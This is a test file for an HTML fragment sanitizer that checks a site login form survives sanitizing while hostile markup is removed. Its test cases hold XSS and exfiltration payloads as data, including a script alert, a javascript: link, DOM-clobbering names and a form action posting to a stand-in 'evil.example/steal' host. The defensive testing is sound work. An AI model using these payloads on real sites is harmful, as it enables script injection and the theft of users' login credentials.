// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { findProblems } from '../../../tests/support/sanitize-check';
import { sanitizeFragment } from './sanitize';

const serialize = (html: string) => {
  const div = document.createElement('div');
  div.append(sanitizeFragment(html));
  return div;
};

const LOGIN = `<section class="visitor-login" data-fragment="login-modal" aria-labelledby="t">
  <h2 id="t">Log in to Starfolio</h2>
  <form data-api="auth/login/" method="post" novalidate>
    <input type="hidden" name="next" value="/blog/?pageNumber=2">
    <label for="e">Email</label><input id="e" name="email" type="email" autocomplete="email" inputmode="email" required>
    <label for="p">Password</label><input id="p" name="password" type="password" autocomplete="current-password" required>
    <p data-role="form-error" role="alert"></p>
    <button type="submit">Log in</button>
  </form>
  <button type="button" data-action="login-otp">Log in with OTP</button>
  <a href="/starfolio/brokers/kestrel-securities/login/?next=%2Fblog%2F" data-action="login-broker" data-broker-id="sec">Log in with Kestrel</a>
</section>`;

describe('fragment sanitizer', () => {
  it('keeps the login form, its fields, labels, actions and same-site links', () => {
    const root = serialize(LOGIN);
    const form = root.querySelector('form')!;
    expect(form.dataset.api).toBe('auth/login/');
    expect(form.getAttribute('method')).toBe('post');
    expect([...form.querySelectorAll('input')].map((i) => `${i.name}:${i.type}`)).toEqual([
      'next:hidden',
      'email:email',
      'password:password',
    ]);
    expect(root.querySelector('label[for="fragment-e"]')?.textContent).toBe('Email');
    expect(root.querySelector('[data-role="form-error"]')?.getAttribute('role')).toBe('alert');
    expect(root.querySelector('[data-action="login-otp"]')?.getAttribute('type')).toBe('button');
    expect(root.querySelector('a')?.getAttribute('href')).toBe(
      '/starfolio/brokers/kestrel-securities/login/?next=%2Fblog%2F',
    );
    expect(root.querySelector('section')?.getAttribute('aria-labelledby')).toBe('fragment-t');
    expect(root.querySelector('h2')?.id).toBe('fragment-t');
    expect(root.querySelector('[class]')).toBeNull();
  });

  it.each([
    ['a script', '<script>alert(1)</script><p>x</p>', 'script'],
    ['an event handler', '<button type="button" onclick="alert(1)">x</button>', '[onclick]'],
    ['a style attribute', '<p style="position:fixed">x</p>', '[style]'],
    ['a form action', '<form action="https://evil.example/steal" data-api="auth/login/"></form>', '[action]'],
    ['a formaction', '<button formaction="https://evil.example/">x</button>', '[formaction]'],
    ['an unknown data-api', '<form data-api="admin/delete-everything/"></form>', '[data-api]'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a>', '[href]'],
    ['a foreign link', '<a href="https://evil.example/">x</a>', '[href]'],
    ['a protocol-relative link', '<a href="//evil.example/">x</a>', '[href]'],
    ['a backslash link', '<a href="/\\evil.example/">x</a>', '[href]'],
    ['a file input', '<input type="file" name="f">', '[type="file"]'],
    ['an image', '<img src="/x.png" alt="">', 'img'],
    ['an iframe', '<iframe src="https://www.youtube.com/embed/x"></iframe>', 'iframe'],
    ['a target', '<a href="/x" target="_blank">x</a>', '[target]'],
    ['an svg', '<svg><a href="/x">x</a></svg>', 'svg'],
    ['a textarea', '<textarea name="x"></textarea>', 'textarea'],
    ['a base element', '<base href="/evil/">', 'base'],
    ['a name that clobbers the document', '<form name="cookie"><input name="cookie"></form>', '[name="cookie"]'],
  ])('removes %s', (_what, html, selector) => {
    expect(serialize(html).querySelector(selector)).toBeNull();
  });

  it('returns nodes, not a string to parse again', () => {
    expect(sanitizeFragment('<p>hi</p>')).toBeInstanceOf(DocumentFragment);
  });

  it('prefixes every id and every reference to one, once', () => {
    const html =
      '<form data-api="auth/login/"><label for="email">Email</label><input id="email" name="email" aria-describedby="hint note">' +
      '<p id="hint">h</p><p id="fragment-note">n</p><input id="has space" name="x"></form>';
    const root = serialize(html);
    expect(root.querySelector('label')?.getAttribute('for')).toBe('fragment-email');
    expect(root.querySelector('input')?.id).toBe('fragment-email');
    expect(root.querySelector('input')?.getAttribute('aria-describedby')).toBe('fragment-hint fragment-note');
    expect([...root.querySelectorAll('p')].map((p) => p.id)).toEqual(['fragment-hint', 'fragment-note']);
    expect(root.querySelector('input[name="x"]')?.hasAttribute('id')).toBe(false);
    expect(serialize(root.innerHTML).innerHTML).toBe(root.innerHTML);
  });

  it.each([
    ['an id the app reads as a global', '<div id="is_subscriber">x</div>'],
    ['an id the widget reads as a global', '<a id="TlBlogs" href="/x">x</a>'],
    ['a form name', '<form name="is_subscriber" data-api="auth/login/"><input name="email"></form>'],
    ['a link name', '<a name="TlBlogs" href="/x">x</a>'],
  ])('leaves nothing that stands in for a global: %s', (_what, html) => {
    const root = serialize(html);
    document.body.append(root);
    expect(findProblems(root, 'fragment')).toEqual([]);
    expect(root.querySelector('#is_subscriber, #TlBlogs, [name="is_subscriber"], [name="TlBlogs"]')).toBeNull();
    root.remove();
  });

  it('keeps names on form controls only', () => {
    const root = serialize(
      '<form name="f" data-api="auth/login/"><input name="email"><button name="go">Go</button></form>',
    );
    expect(root.querySelector('form')?.hasAttribute('name')).toBe(false);
    expect([...root.querySelectorAll('[name]')].map((el) => el.getAttribute('name'))).toEqual(['email', 'go']);
  });

  it('never nests a form: the inner one goes, its fields stay in the outer one', () => {
    const root = serialize('<form id="outer" data-api="auth/login/"><div></form><form id="inner"><input name="email">');
    expect(root.querySelectorAll('form')).toHaveLength(1);
    expect(root.querySelector('form input[name="email"]')).not.toBeNull();
    expect(findProblems(root, 'fragment')).toEqual([]);
  });

  it('keeps an element that came with `is`, as a plain element', () => {
    const root = serialize('<button is="x-login" type="submit">Log in</button>');
    expect(root.innerHTML).toBe('<button type="submit">Log in</button>');
  });
});
